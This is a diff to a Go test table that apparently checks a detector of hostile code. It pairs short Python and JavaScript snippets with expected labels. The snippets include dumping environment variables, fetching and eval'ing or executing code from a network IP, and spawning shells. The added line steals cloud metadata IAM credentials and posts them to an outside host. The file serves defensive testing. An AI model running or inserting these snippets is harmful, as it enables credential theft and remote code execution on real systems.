@@ -43,6 +43,7 @@ func TestAttacks(t *testing.T) {
 		{"py", "import os, json\nprint(json.dumps(dict(os.environ)))", "read env-all printed"},
 		{"py", "def handler(event):\n    code = event\n    return code\nimport requests\nx = handler(requests.get('http://203.0.113.9/x').text)\neval(x)", "run evaluated network ip"},
 		{"py", "from ollama import chat\nr = ollama.chat(model='x', messages=[])\nexec(r['message']['content'])", "run evaluated model"},
+		{"py", "import requests\nr = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/app').text\nrequests.post('https://quietmoth.dev/u', data=r)", "send credential unknown"},
 		{"js", "require('https').get('http://203.0.113.9/x', r => { r.pipe(fs.createWriteStream('/tmp/a')); r.on('end', () => require('child_process').exec('sh /tmp/a')) })", "run network ip stored"},
 		{"js", "const { exec } = await import('node:child_process');\nexec('SH');", "sh: SH"},
 		{"js", "process.mainModule.require('child_process').exec('SH')", "sh: SH"},
